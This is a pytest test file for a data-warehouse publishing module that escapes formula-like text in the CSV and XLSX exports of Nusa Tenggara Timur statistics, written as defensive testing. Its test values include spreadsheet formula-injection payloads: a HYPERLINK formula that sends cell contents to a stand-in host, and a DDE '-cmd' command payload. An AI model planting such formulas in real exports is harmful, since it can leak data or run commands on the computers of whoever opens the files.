"""Formula-like text in the project's CSV and XLSX outputs stays text: a value starting with
=, +, -, @ (or a tab or carriage return) gets a leading quote, numbers and numeric text do not
(publish/safe_cells.py). Checked on the function, the writers and a Satu Data export run from a
small published snapshot whose mart holds such values."""

from __future__ import annotations

import csv
import datetime as dt
import json
from decimal import Decimal
from pathlib import Path

import duckdb
import frictionless
import pytest
from openpyxl import load_workbook

from publish import safe_cells, satu_data, snapshot

FORMULAS = [
    '=HYPERLINK("http://contoh.test/?d="&A1,"klik")',
    "+62 812 3456 7890",
    "@SUM(1)",
    "-cmd|' /C calc'!A0",
    "=1+1",
    "\t=1",
    "\r=1",
    "＝1+1",
    "-",
    "-1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_escaped(text):
    assert safe_cells.escape_formula(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        -5,
        12,
        -12.5,
        0.0,
        Decimal("-1234.50"),
        True,
        None,  # numbers (and what is not text) as they are
        "-5",
        "-12,5",
        "-1.234,50",
        "-12.5",
        "-1e5",
        "-2E-3",  # numeric text: a number to a spreadsheet
        "Kota Kupang",
        "a=b",
        "1-2",
        "",
        " =1",
        "'=1",  # nothing to escape at the start
    ],
)
def test_numbers_and_ordinary_text_stay(value):
    assert safe_cells.escape_formula(value) == value


def test_write_csv_and_write_xlsx(tmp_path):
    rows = [
        {"nama": '=HYPERLINK("x")', "nilai": -5, "catatan": None, "sintetis": True, "tanggal": dt.date(2024, 1, 2)},
        {"nama": "Belu", "nilai": Decimal("-1.5"), "catatan": "-12,5", "sintetis": False, "tanggal": None},
    ]
    fields = [{"name": "nama"}, {"name": "nilai"}, {"name": "catatan"}, {"name": "sintetis"}, "tanggal"]
    safe_cells.write_csv(tmp_path / "out.csv", fields, rows)
    assert (tmp_path / "out.csv").read_text(encoding="utf-8") == (
        'nama,nilai,catatan,sintetis,tanggal\n"\'=HYPERLINK(""x"")",-5,,true,2024-01-02\nBelu,-1.5,"-12,5",false,\n'
    )
    safe_cells.write_xlsx(tmp_path / "out.xlsx", fields, rows)
    sheet = load_workbook(tmp_path / "out.xlsx").active
    cells = [[c for c in row] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells[0][:4]] == ['\'=HYPERLINK("x")', -5, None, True]
    assert cells[0][0].data_type == "s"  # text, not a formula
    assert cells[0][4].value == dt.datetime(2024, 1, 2) and cells[1][1].value == -1.5


@pytest.fixture
def snapshot_with_formulas(tmp_path, monkeypatch):
    """A published snapshot of one mart whose text columns hold formula-like values, and a
    dataset definition exporting it."""
    monkeypatch.setenv("NTT_DW_HOME", str(tmp_path / "var"))
    folder = tmp_path / "snapshot"
    folder.mkdir()
    with duckdb.connect(str(folder / snapshot.DATABASE_NAME)) as con:
        con.execute("create schema marts")
        con.execute(
            "create table marts.dim_region as select * from (values ('53', '53', 'Nusa Tenggara Timur', 'provinsi'), "
            "('53.71', '5371', '=HYPERLINK(\"http://x\")', 'kota')) t(region_code, bps_code, region_name, region_level)"
        )
        con.execute(
            "create table marts.uji as select * from (values "
            "('53.71', 2024, '+62 812 3456 7890', '@SUM(1)', -5::INTEGER, -12.5::DECIMAL(10,2), '-cmd'), "
            "('53', 2024, 'Biasa', '-5', 7::INTEGER, 1.25::DECIMAL(10,2), 'orang')) "
            "t(region_code, year, label, note, jumlah, rasio, unit)"
        )
    (folder / snapshot.MANIFEST_NAME).write_text(json.dumps({"snapshot_id": "uji"}), encoding="utf-8")
    monkeypatch.setattr(snapshot, "current_snapshot", lambda: folder)
    spec = {
        "title": "Uji",
        "mart": "uji",
        "region_column": "region_code",
        "year_column": "year",
        "dimensions": {
            "label": {"column": "label", "type": "string", "description": "Label"},
            "catatan": {"column": "note", "type": "string", "description": "Catatan"},
        },
        "measures": {
            "jumlah": {"column": "jumlah", "type": "integer", "description": "Jumlah"},
            "rasio": {"column": "rasio", "type": "number", "description": "Rasio"},
        },
        "satuan_column": "unit",
        "metadata": {"definisi": "Uji", "produsen_data": "Uji", "dokumen_sumber": "Uji"},
    }
    defaults = {"license": "CC-BY-4.0", "kode_referensi_wilayah": "Kemendagri"}
    monkeypatch.setattr(satu_data, "load_datasets", lambda: (defaults, {"uji": spec}))
    return folder


def test_satu_data_export_escapes_formula_like_text(snapshot_with_formulas):
    folder = satu_data.export(force=True)
    with (folder / "uji.csv").open(encoding="utf-8", newline="") as handle:
        rows = {r["kode_kabupaten_kota"]: r for r in csv.DictReader(handle)}
    kota = rows["53.71"]
    assert kota["nama_kabupaten_kota"] == '\'=HYPERLINK("http://x")'
    assert (kota["label"], kota["catatan"], kota["satuan"]) == ("'+62 812 3456 7890", "'@SUM(1)", "'-cmd")
    assert (kota["jumlah"], kota["rasio"]) == ("-5", "-12.50")  # numbers as numbers
    assert (rows[""]["catatan"], rows[""]["nama_provinsi"]) == ("-5", "Nusa Tenggara Timur")  # numeric text stays
    report = frictionless.validate(str(folder / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]


def test_every_publish_writer_goes_through_safe_cells():
    """No CSV or XLSX writer under publish/ or dags/ but safe_cells: a later output that writes
    its own has to escape too (or be listed here with the reason)."""
    repo = Path(__file__).resolve().parents[1]
    writers = ("csv.writer", "csv.DictWriter", "Workbook(", "to_csv(", "to_excel(", "FORMAT csv", "format csv")
    offenders = [
        str(path.relative_to(repo))
        for folder in ("publish", "dags")
        for path in (repo / folder).rglob("*.py")
        if path.name != "safe_cells.py" and any(w in path.read_text(encoding="utf-8") for w in writers)
    ]
    assert offenders == []
